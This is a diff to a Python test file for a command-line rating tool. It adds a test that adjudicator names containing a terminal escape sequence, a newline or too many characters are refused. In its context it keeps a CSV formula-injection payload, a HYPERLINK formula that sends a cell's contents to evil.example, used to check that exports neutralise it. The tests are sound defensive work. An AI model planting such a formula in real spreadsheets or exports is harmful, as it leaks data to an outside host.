@@ -4,9 +4,14 @@ code as merged, through the real CLI (or the real app in tmux), and holds now.""
 from __future__ import annotations
 
 import csv
+import subprocess
+import sys
 from pathlib import Path
 
-from tests.support import run_cli_process, story_study
+import pytest
+
+from tests.reliability.test_files import one_sentence
+from tests.support import digest, run_cli_process, story_study
 from tui_rater.store.study import Study
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -34,3 +39,35 @@ def test_notes_export_says_it_neutralised_a_comment_and_raw_csv_keeps_it(tmp_pat
         done = run_cli_process("export", "--what", "notes", "--db", db, "--out", raw, "--raw-csv")
         assert done.returncode == 0, done.stderr
         assert FORMULA in _cells(raw, delimiter) and "CSV cell" not in done.stderr
+
+
+def _adjudicate_study(tmp_path: Path) -> Path:
+    db = story_study(tmp_path / "study.db")
+    ratings = tmp_path / "r.csv"
+    ratings.write_text("item,rater,attribute,value\ns0,alice,grammaticality,1\ns0,bob,grammaticality,5\n")
+    assert run_cli_process("import-ratings", ratings, "--db", db).returncode == 0
+    return db
+
+
+@pytest.mark.parametrize(
+    ("name", "said"),
+    [
+        ("ev\x1b[31mil", "one line of text, without control characters"),
+        ("two\nlines", "one line of text, without control characters"),
+        ("x" * 81, "81 characters long"),
+    ],
+)
+def test_adjudicator_names_are_checked_as_annotator_names(tmp_path, name, said):
+    """`adjudicate --adjudicator` stored a name with ESC, a newline or 10,000 characters as a rater (and opened
+    the screen) where `annotate --annotator` refuses each in one sentence."""
+    db = _adjudicate_study(tmp_path)
+    before = digest(db)
+    command = [sys.executable, "-m", "tui_rater.cli", "adjudicate", "--db", str(db), "--task", "story"]
+    try:
+        done = subprocess.run(
+            [*command, "--adjudicator", name], stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=30
+        )
+    except subprocess.TimeoutExpired:
+        pytest.fail("the screen opened for a name that --annotator refuses")
+    assert said in one_sentence(done) and "--adjudicator" in done.stderr
+    assert digest(db) == before
